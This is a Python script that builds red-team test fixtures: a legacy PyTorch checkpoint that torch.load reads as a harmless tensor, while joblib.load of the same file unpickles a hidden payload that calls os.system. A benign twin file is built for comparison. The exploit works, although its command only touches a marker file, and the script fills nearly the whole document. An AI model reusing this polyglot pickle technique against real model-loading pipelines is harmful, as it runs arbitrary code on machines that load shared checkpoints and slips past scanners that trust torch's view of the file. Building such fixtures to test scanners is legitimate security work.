"""A legacy torch.save checkpoint whose magic-number pickle builds a joblib NumpyArrayWrapper.

torch.load reads the usual five pickles and a uint8 tensor. joblib.load of the same file reads
only the first pickle, takes the wrapper's array bytes (the rest of torch's pickles) and unpickles
on from inside what torch reads as storage data, where the payload sits.
Run with Debian's python3 (torch 1.13, joblib 1.2): python3 make_legacy_joblib_fixtures.py [--prove]
"""
import io, os, pickle, struct, sys
import torch
MARK = '/tmp/safeload-redteam-pwned'
HERE = os.path.dirname(os.path.abspath(__file__))
def u(s):
    b = s.encode(); return b'\x8c' + bytes([len(b)]) + b
b = io.BytesIO(); torch.save(torch.zeros(20000, dtype=torch.uint8), b, _use_new_zipfile_serialization=False); G = b.getvalue()
magic = pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2)
rest = G[len(magic):]
def wrapper(k):
    w = u('joblib.numpy_pickle') + u('NumpyArrayWrapper') + b'\x93)\x81}('
    w += u('dtype') + u('numpy') + u('dtype') + b'\x93' + u('u1') + b'\x89\x88\x87R'
    w += b'(K\x03' + u('|') + b'NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb'
    w += u('shape') + b'J' + struct.pack('<i', k) + b'\x85'
    w += u('subclass') + u('numpy') + u('ndarray') + b'\x93'
    w += u('order') + u('C') + u('allow_mmap') + b'\x89ub'
    return w
def build(evil):
    k = 0
    for _ in range(2):   # size k so that joblib resumes 100 bytes into the storage data
        head = b'\x80\x02' + wrapper(k)
        out = bytearray(head + b'0' + magic[2:] + rest)
        data_start = len(out) - 20000
        k = data_start + 100 - len(head)
    cmd = ('touch ' + MARK).encode()
    hidden = b'0' + (u('os') + u('system') + b'\x93\x8c' + bytes([len(cmd)]) + cmd + b'\x85R' if evil else b'N') + b'.'
    out[len(head) + k:len(head) + k + len(hidden)] = hidden
    return bytes(out)
open(os.path.join(HERE, 'legacy_joblib_double.pt'), 'wb').write(build(True))
open(os.path.join(HERE, 'legacy_joblib_double_twin.pt'), 'wb').write(build(False))

if '--prove' in sys.argv:
    import joblib
    for name in ['legacy_joblib_double.pt', 'legacy_joblib_double_twin.pt']:
        path = os.path.join(HERE, name)
        if os.path.exists(MARK):
            os.remove(MARK)
        t = torch.load(path)
        ran_torch = os.path.exists(MARK)
        r = joblib.load(path)
        print(f'{name:30s} torch.load: tensor {tuple(t.shape)} ran={ran_torch}; joblib.load: {r!r} ran={os.path.exists(MARK)}')
